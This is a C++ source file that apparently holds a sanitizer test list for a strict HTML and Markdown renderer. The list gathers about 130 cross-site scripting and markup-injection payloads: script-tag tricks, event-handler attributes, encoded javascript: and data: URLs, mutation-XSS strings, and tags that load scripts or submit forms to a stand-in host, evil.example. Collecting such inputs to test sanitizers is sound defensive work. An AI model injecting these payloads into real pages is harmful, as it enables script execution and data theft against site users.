#include "render/strict_html.h"

namespace afterword::strict {

const std::vector<std::string>& attacks() {
  static const std::vector<std::string> list = {
      // scripts, whole and in pieces
      "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>alert(2)</script\n>",
      "<script/anything>alert(3)</script>", "<scr<script>ipt>alert(4)</scr</script>ipt>",
      "<<script>alert(5);//<</script>", "<script>alert(6)", "</p><script>alert(7)</script><p>",
      "inline <script>alert(8)</script> text", "<script>\n\nalert(9)\n\n</script>",
      "<!--><script>alert(10)</script>-->", "<!-- --!><script>alert(11)</script> -->",
      "<![CDATA[<script>alert(12)</script>]]>", "<?xml version=\"1.0\"?><script>alert(13)</script>",
      // handlers
      "<img src=x onerror=alert(14)>", "<img src=\"x\"onerror=\"alert(15)\">", "<img/src=x/onerror=alert(16)>",
      "<IMG SRC=x ONERROR=\"alert(17)\">", "<img src=x onerror\n=\n'alert(18)'>", "<img src=`x`onerror=alert(19)>",
      "<img \"\"\"><img src=x onerror=alert(20)>\">", "<body onload=alert(21)>", "<p onmouseover=alert(22)>over</p>",
      "<a href=\"#\" onclick=\"alert(23)\">click</a>",
      "<details open ontoggle=alert(24)><summary>x</summary></details>",
      "<div style=\"background:url(javascript:alert(25))\">x</div>",
      "<span style=\"width:expression(alert(26))\">x</span>", "<input autofocus onfocus=alert(27)>",
      "<marquee onstart=alert(28)>x</marquee>", "<video><source onerror=alert(29)></video>",
      "<audio src=x onerror=alert(30)></audio>", "<svg onload=alert(31)>", "<svg><script>alert(32)</script></svg>",
      "<svg><animate onbegin=alert(33) attributeName=x dur=1s></svg>",
      "<svg><a xlink:href=\"javascript:alert(34)\"><text y=20>x</text></a></svg>",
      "<math><mi xlink:href=\"javascript:alert(35)\">x</mi></math>",
      "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(36)&gt;\">",
      "<svg></p><style><a id=\"</style><img src=x onerror=alert(37)>\">",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(38)>\"></noscript>",
      "<template><img src=x onerror=alert(39)></template>", "<textarea></textarea><img src=x onerror=alert(40)>",
      "<title></title><img src=x onerror=alert(41)>", "<xmp></xmp><img src=x onerror=alert(42)>",
      "<plaintext><img src=x onerror=alert(43)>",
      // addresses
      "<a href=\"javascript:alert(44)\">x</a>", "<a href=\"JaVaScRiPt:alert(45)\">x</a>",
      "<a href=\" javascript:alert(46)\">x</a>", "<a href=\"java\tscript:alert(47)\">x</a>",
      "<a href=\"java&#10;script:alert(48)\">x</a>",
      "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(49)\">x</a>",
      "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(50)\">x</a>",
      "<a href=\"&#0000106avascript:alert(51)\">x</a>", "<a href=\"javascript&colon;alert(52)\">x</a>",
      "<a href=\"\x01javascript:alert(53)\">x</a>", "<a href=javascript:alert(54)>x</a>",
      "<a href='vbscript:msgbox(55)'>x</a>", "<a href=\"data:text/html,<script>alert(56)</script>\">x</a>",
      "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg1Nyk8L3NjcmlwdD4=\">x</a>",
      "<a href=\"feed:javascript:alert(58)\">x</a>", "<a href=\"view-source:javascript:alert(59)\">x</a>",
      "[x](javascript:alert(60))", "[x](JAVASCRIPT&#58;alert(61))", "[x](  javascript:alert(62) \"title\")",
      "[x](<javascript:alert(63)>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "<javascript:alert(64)>",
      "![x](javascript:alert(65))", "![x](data:image/svg+xml,%3Csvg%20onload=alert(66)%3E)",
      "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNjcpPg==\">", "<img src=\"data:text/html,x\">",
      "<img src='data:image/png;base64,\"onerror=\"alert(82)'>", "![x](<data:image/png;base64,\"onerror=\"alert(83)>)",
      "![\" onerror=\"alert(68)](x.png)", "[x](x.html\"onmouseover=\"alert(69))",
      "[ref]\n\n[ref]: javascript:alert(70)",
      // things that load or take over
      "<iframe src=\"https://evil.example\"></iframe>", "<iframe srcdoc=\"<script>alert(71)</script>\"></iframe>",
      "<object data=\"https://evil.example/x.swf\"></object>", "<embed src=\"javascript:alert(72)\">",
      "<base href=\"https://evil.example/\">", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
      "<link rel=stylesheet href=\"https://evil.example/x.css\">",
      "<style>@import 'https://evil.example/x.css';</style>",
      "<style><img src=\"</style><img src=x onerror=alert(73)//\">",
      "<form action=\"https://evil.example\"><input name=x><button>go</button></form>",
      "<img srcset=\"https://evil.example/x 1x\" src=x>",
      "<table background=\"https://evil.example/x\"><tr><td background=\"javascript:alert(74)\">x</table>",
      "<a href=\"https://ok.example\" ping=\"https://evil.example\" target=_blank>x</a>",
      "<p id=main class=brief name=x>clobber</p>",
      // breaking out
      "</main></body></html>after", "</section></div></div></div></figure>after",
      "<div><div><div><p><b><i>never closed", "<table><tr><td>never closed", "<ul><li>a<li>b<ol><li>c",
      "</b></i></td></tr></table>closed without opening", "<a href=\"x\"><a href=\"y\">nested</a></a>",
      "**bold <b>raw** and</b> on", "<details><details><summary>x", "<p><table><p>in</p></table></p>",
      "<h1>one</h1><h1>two</h1>", "<td>stray cell</td><li>stray item</li><dt>stray term</dt><summary>stray</summary>",
      "<a title=\"<script>alert(75)</script>\" href=x>t</a>",
      "<a href=\"x\" title='\"><script>alert(76)</script>'>t</a>", "`<script>alert(77)</script>`",
      "```html\n<script>alert(78)</script>\n```", "&lt;script&gt;alert(79)&lt;/script&gt;",
      "&#60;script&#62;alert(80)&#60;/script&#62;",
      "<a href=\"//evil.example\">x</a> <a href=\"\\\\evil.example\">x</a>",
      "<img src=\"//evil.example/x.png\"> <img src=\"\\\\evil.example\\x.png\">", "<scr\x01ipt>alert(81)</scr\x01ipt>",
      "<p>\xEF\xBF\xBE\x02 controls</p>", "<a href=\"x", "<img alt=\"<a", "<"};
  return list;
}

}  // namespace afterword::strict
